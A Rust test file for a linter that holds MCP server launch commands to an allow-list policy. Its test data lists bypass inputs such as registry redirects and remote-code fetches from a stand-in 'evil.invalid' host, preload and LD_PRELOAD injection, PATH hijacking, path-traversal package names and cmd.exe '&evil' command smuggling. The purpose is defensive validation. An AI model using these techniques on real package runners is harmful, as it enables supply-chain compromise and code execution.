//! A policy holds against the ways around it that the allowed programs themselves offer.

use serde_json::json;

use crate::support::Folder;

const COMMANDS: [&str; 15] = [
    "npx", "uvx", "npm", "pnpm", "yarn", "bun", "deno", "dx", "pipx", "uv", "go", "dnx", "dotnet",
    "pip", "node",
];

/// Holds a command line, its words between blanks, against a policy that allows these programs and the packages of Acme.
fn refused(line: &str) -> bool {
    violations(&line.split(' ').collect::<Vec<_>>(), &[]) > 0
}

fn violations(args: &[&str], env: &[(&str, &str)]) -> usize {
    let env: serde_json::Map<_, _> = env
        .iter()
        .map(|(name, value)| ((*name).to_owned(), (*value).into()))
        .collect();
    let file =
        json!({ "mcpServers": { "a": { "command": args[0], "args": args[1..], "env": env } } });
    let policy = format!(
        "[policy]\ncommands = [{}]\npackages = [\"@acme/*\", \"acme-*\", \"go:acme.dev/**\"]\n",
        COMMANDS.map(|name| format!("\"{name}\"")).join(", ")
    );
    let folder = Folder::new(&[(".mcp.json", &file.to_string()), ("mcpconv.toml", &policy)]);
    let ran = folder.lint(&["--format", "concise"]);
    ran.stdout.matches("error[policy-violation]").count()
}

#[test]
fn options_of_a_runner_do_not_get_around_the_policy() {
    for args in [
        &["npx", "-c", "evil"][..],
        &["npx", "-y", "-p", "@acme/x@1.0.0", "--call", "evil"],
        &[
            "npx",
            "--registry=https://evil.invalid",
            "-y",
            "@acme/x@1.0.0",
        ],
        &[
            "npx",
            "--registry",
            "https://evil.invalid",
            "-y",
            "@acme/x@1.0.0",
        ],
        &[
            "npx",
            "--node-options=--require=/tmp/x",
            "-y",
            "@acme/x@1.0.0",
        ],
        &["npx", "--script-shell=/tmp/x", "-y", "@acme/x@1.0.0"],
        &[
            "uvx",
            "--index-url",
            "https://evil.invalid",
            "acme-x==1.0.0",
        ],
        &[
            "uvx",
            "--default-index=https://evil.invalid",
            "acme-x==1.0.0",
        ],
        // Any beginning of an option's name, options of a scope, other folders, options that nobody knows.
        &["npx", "--regis=https://evil.invalid", "@acme/x@1.0.0"],
        &["npx", "--script-sh", "/tmp/x", "@acme/x@1.0.0"],
        &[
            "npx",
            "--@acme:registry=https://evil.invalid",
            "@acme/x@1.0.0",
        ],
        &["npx", "--prefix", "./evil", "@acme/x@1.0.0"],
        &["npx", "--cache=./evil", "@acme/x@1.0.0"],
        &["npx", "--who-knows", "@acme/x@1.0.0"],
        &["npx", "", "@acme/x@1.0.0"],
        &["uvx", "--cache-dir", "./evil", "acme-x==1.0.0"],
        // Programs and settings of the repository.
        &["uvx", "--python", "./evil", "acme-x==1.0.0"],
        &["uvx", "-p", "evil/bin/python", "acme-x==1.0.0"],
        &["uvx", "--python=./evil", "acme-x==1.0.0"],
        &["uvx", "--directory", "./evil", "acme-x==1.0.0"],
        &["uvx", "--project", "..", "acme-x==1.0.0"],
        &["npx", "-w", "evil", "@acme/x@1.0.0"],
        // A default that is no version is another package.
        &["npx", "-y", "@acme/${PACKAGE:-x@npm:evil}"],
        &["npx", "-y", "@acme/x@${VERSION:-npm:evil}"],
    ] {
        assert!(violations(args, &[]) > 0, "{args:?}");
    }
    let plain = ["npx", "-y", "@acme/x@1.0.0"];
    assert!(violations(&plain, &[("npm_config_registry", "https://evil.invalid")]) > 0);
    for (name, value) in [
        ("NPM_CONFIG_SCRIPT_SHELL", "/tmp/x"),
        ("npm_config_@acme:registry", "https://evil.invalid"),
        ("npm_config_prefix", "./evil"),
        ("PIP_FIND_LINKS", "./evil"),
        ("npm_config_package", "evil"),
        ("npm_config_shell", "./evil"),
        ("UV_CONSTRAINT", "evil.txt"),
        ("UV_PYTHON", "./evil"),
        // Programs and settings are looked for there.
        ("PATH", "./evil:/usr/bin"),
        ("Path", "bin/evil"),
        ("HOME", "./evil"),
        ("XDG_CONFIG_HOME", "../evil"),
    ] {
        assert!(violations(&plain, &[(name, value)]) > 0, "{name}");
    }
    // The same words after the package are the server's own.
    for args in [
        &plain[..],
        &[
            "npx",
            "-y",
            "@acme/x@1.0.0",
            "-c",
            "conf.json",
            "--registry=x",
        ],
        &["npx", "-y", "-p", "@acme/x@1.0.0", "x"],
        &["uvx", "acme-x==1.0.0", "--index", "a"],
        &["npx", "--yes", "--quiet", "@acme/x@${VERSION:-1.0.0}"],
        &["uvx", "--python", "3.12", "acme-x==1.0.0"],
    ] {
        assert_eq!(violations(args, &[("MODE", "x")]), 0, "{args:?}");
        let folders = [("PATH", "/opt/acme/bin:/usr/bin"), ("HOME", "/home/me")];
        assert_eq!(violations(args, &folders), 0, "{args:?}");
    }
}

#[test]
fn every_runner_is_held_to_its_own_registry_and_code() {
    for line in [
        "dnx acme-x --source https://evil.invalid",
        "dnx acme-x --add-source https://evil.invalid",
        "dnx --source=https://evil.invalid acme-x",
        "dnx acme-x --configfile ./nuget.config",
        "dotnet tool exec acme-x --source https://evil.invalid",
        "dotnet tool install -g acme-x --add-source https://evil.invalid",
        "deno run -A --preload /tmp/e npm:@acme/x",
        "deno run --import=/tmp/e npm:@acme/x",
        "deno run --import-map /tmp/e npm:@acme/x",
        "bun --preload /tmp/e x @acme/x",
        "bun x --preload=/tmp/e @acme/x",
        "bun -r /tmp/e x @acme/x",
        "go run -exec /tmp/e acme.dev/x@v1.0.0",
        "go run -toolexec=/tmp/e acme.dev/x@v1.0.0",
        "uvx --python /tmp/evil acme-x",
        "uvx -p /tmp/evil acme-x",
        "uvx --python=${PYTHON} acme-x",
        "pipx run --python /tmp/evil acme-x",
        "pipx install --python=/tmp/evil acme-x",
        "npm install --registry https://evil.invalid -g @acme/x",
        "pnpm add @acme/x --registry=https://evil.invalid",
        "pip install acme-x --index-url https://evil.invalid",
    ] {
        assert!(refused(line), "{line}");
    }
    for line in [
        "dnx acme-x@1.0.0 --yes -- --source here",
        "dnx -y acme-x --version 1.0.0 --source-of-truth x",
        "dotnet tool exec acme-x --prerelease",
        "deno run -A --no-prompt npm:@acme/x@1.0.0 --preload x",
        "deno run --allow-net=acme.dev -R --allow-env jsr:@acme/x",
        "bun x --bun @acme/x@1.0.0 --preload x",
        "go run -tags netgo acme.dev/x@v1.0.0 -exec x",
        "uvx --python 3.12 acme-x",
        "uvx --python >=3.10 acme-x",
        "pipx run --python 3.12 acme-x",
        "npm exec --yes @acme/x",
    ] {
        assert!(!refused(line), "{line}");
    }
    let plain = ["uvx", "acme-x==1.0.0"];
    assert!(violations(&plain, &[("UV_PYTHON", "/tmp/evil")]) > 0);
    assert!(violations(&plain, &[("UV_WITH", "evil")]) > 0);
    assert_eq!(violations(&plain, &[("UV_PYTHON", "3.12")]), 0);
}

#[test]
fn what_is_no_version_of_an_allowed_package_is_another_one() {
    for package in [
        "acme-x@1.0.0/../../evil",
        "@acme/x@git:evil.invalid/x",
        "@acme/x@a/b/c",
        "@acme/x@.evil",
        "@acme/../../evil",
        "acme-x.tgz",
        "acme-x.tar.gz",
        "acme-x.TGZ",
        "acme-x@1.tgz",
    ] {
        assert!(refused(&format!("npx -y {package}")), "{package}");
        assert!(refused(&format!("pnpm dlx {package}")), "{package}");
    }
    assert!(violations(&["npx", "-y", "@acme/x@ evil/repo"], &[]) > 0);
    for package in [
        "acme-x.whl",
        "acme-x.tar.gz",
        "acme-x.tar.bz2",
        "acme-x@1.0/../evil",
    ] {
        assert!(refused(&format!("uvx --from {package} y")), "{package}");
        assert!(refused(&format!("uvx {package}")), "{package}");
    }
    for package in [
        "@acme/x@1.0.0",
        "@acme/x@^1.2",
        "acme-x@next",
        "acme-x@1.x",
        "@acme/x@npm:@acme/y",
    ] {
        assert!(!refused(&format!("npx -y {package}")), "{package}");
    }
    for package in [
        "acme-x==1.0",
        "acme-x@1.0",
        "acme-x@latest",
        "acme-x[cli]>=1,<2",
    ] {
        assert!(!refused(&format!("uvx {package}")), "{package}");
    }
}

#[test]
fn what_commands_install_or_create_is_a_package_too() {
    for line in [
        "npm create evil",
        "npm init evil",
        "npm init @evil",
        // What is fetched is called `create-acme-x`.
        "npm create acme-x",
        "pnpm create evil",
        "bun create evil",
        "yarn create evil",
        "npm install -g evil",
        "npm i evil",
        "npm install @acme/x evil",
        "pnpm add evil",
        "bun add -g evil",
        "yarn global add evil",
        "pipx install evil",
        "pipx install git+https://evil.invalid/acme-x",
        "uv tool install evil",
        "uv run https://evil.invalid/x.py",
        "uv run --with acme-x https://evil.invalid/x.py",
        "pip install -r evil.txt",
        "deno install -g npm:evil",
        "deno x npm:evil",
        "deno x evil",
        "dx evil",
        "go install evil.invalid/x@latest",
        "dotnet tool install -g evil",
    ] {
        assert!(refused(line), "{line}");
    }
    for line in [
        "npm create @acme",
        "npm init @acme/x@1.0.0 evil",
        "npm init -y",
        "npm install",
        "npm install -g @acme/x@1.0.0",
        "pnpm add @acme/x acme-y",
        "pipx install acme-x==1.0.0",
        "uv tool install acme-x",
        "uv run server.py https://acme.invalid/x.py",
        "uv run --with acme-x python -m x",
        "deno install -g -A -n x npm:@acme/x",
        "deno x npm:@acme/x evil",
        "go install acme.dev/x@v1.0.0",
        "npm run create evil",
        "npm start",
    ] {
        assert!(!refused(line), "{line}");
    }
}

#[test]
fn what_stands_around_a_program_does_not_get_around_the_policy() {
    for args in [
        &["sh", "-c", "PATH=/tmp npx @acme/x"][..],
        &["env", "PATH=/tmp", "npx", "@acme/x"],
        &["env", "PATH=/tmp", "node", "x.js"],
        &["env", "NODE_OPTIONS=--require=/tmp/e", "npx", "@acme/x"],
        &["env", "LD_PRELOAD=/tmp/e", "npx", "@acme/x"],
        &["cmd", "/c", "npx", "-y", "@acme/x&evil"],
        &["cmd", "/c", "npx", "-y", "@acme/x&&evil"],
        &["cmd", "/c", "npx", "-y", "@acme/x", "--a=b&evil"],
        &["cmd", "/c", "npx", "-y", "@acme/x", "^&evil"],
        &["cmd", "/c", "npx", "-y", "@acme/x", "a\nevil"],
        &["cmd", "/c", "npx", "-y", "@acme/x", "a \" & evil"],
        &["cmd", "/c", "npx", "-y", "@acme/x", "--a=b>c"],
    ] {
        assert!(violations(args, &[]) > 0, "{args:?}");
    }
    for args in [
        &[
            "env",
            "NODE_OPTIONS=--max-old-space-size=4096",
            "npx",
            "@acme/x",
        ][..],
        &["sh", "-c", "MODE=x npx -y @acme/x@1.0.0"],
        &["cmd", "/c", "npx", "-y", "@acme/x@1.0.0", "a & b"],
        &["cmd", "/c", "npx", "-y", "@acme/x@^1.0.0", "--a=100%"],
        // Without `cmd`, these are only characters.
        &["npx", "-y", "@acme/x@1.0.0", "--a=b&c"],
    ] {
        assert_eq!(violations(args, &[]), 0, "{args:?}");
    }
}

#[test]
fn what_a_policy_allows_is_shown_without_secrets() {
    let mark = "q7Rk2Zx9Lm";
    let policy = format!("[policy]\ncommands = [\"x --token {mark}\"]\npackages = [\"a\"]\n");
    let folder = Folder::new(&[
        (".mcp.json", r#"{"mcpServers": {"a": {"command": "npx"}}}"#),
        ("mcpconv.toml", &policy),
    ]);
    for format in ["human", "json", "github"] {
        let ran = folder.lint(&["--format", format]);
        assert!(ran.stdout.contains("policy-violation"), "{ran:?}");
        let said = format!("{}{}", ran.stdout, ran.stderr);
        assert!(!said.contains(mark), "{format}: {said}");
    }
}
